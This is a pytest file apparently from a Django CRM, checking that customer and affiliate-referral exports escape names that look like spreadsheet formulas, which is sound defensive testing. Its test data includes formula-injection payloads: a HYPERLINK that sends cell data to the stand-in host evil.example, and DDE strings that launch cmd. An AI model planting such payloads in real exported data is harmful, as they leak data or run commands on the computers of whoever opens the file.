"""Issue 11, finding 3: names that are formulas stay text in every file staff and partners open.

One rule (`crm.core.exports.cells`) for every export; tests/harness/test_export_formulas.py tries it on every
export route. These are the tester's two cases through HTTP, and the rule itself.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from crm.core.exports.cells import csv_cell
from crm.core.models import ExportJob
from tests.affiliates.api_factories import log_in, portal_affiliate
from tests.affiliates.factories import referral_of
from tests.customers.factories import CustomerFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1, "x")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1+1", "'\uff0b1+1"),
        ("-12.50", "-12.50"),
        ("+44", "+44"),
        ("1e5", "1e5"),
        ("Jane", "Jane"),
        (None, ""),
    ],
)
def test_csv_cells_never_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_a_client_named_like_a_formula_is_text_in_the_back_office_xlsx(
    api_client, sales_manager, django_capture_on_commit_callbacks
):
    CustomerFactory(first_name="=1+1", last_name=HYPERLINK)
    api_client.force_authenticate(sales_manager)

    with django_capture_on_commit_callbacks(execute=True):
        api_client.post(reverse("backoffice:customer-export"))

    job = ExportJob.objects.get()
    with job.file.open("rb") as handle:
        sheet = load_workbook(handle).active
        header = [cell.value for cell in sheet[1]]
        row = {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    assert (row["first_name"].value, row["first_name"].data_type) == ("=1+1", "s")
    assert (row["last_name"].value, row["last_name"].data_type) == (HYPERLINK, "s")
    assert row["last_name"].quotePrefix


def test_referral_names_like_formulas_are_escaped_in_the_affiliate_csv(api_client):
    affiliate = portal_affiliate()
    for name in ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"):
        referral_of(affiliate, first_name=name, last_name="-5")
    log_in(api_client, affiliate)

    response = api_client.get(reverse("affiliate:referral-export"))

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["first_name"] for row in rows) == ["'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "'=1+1"]
    assert {row["last_name"] for row in rows} == {"-5"}
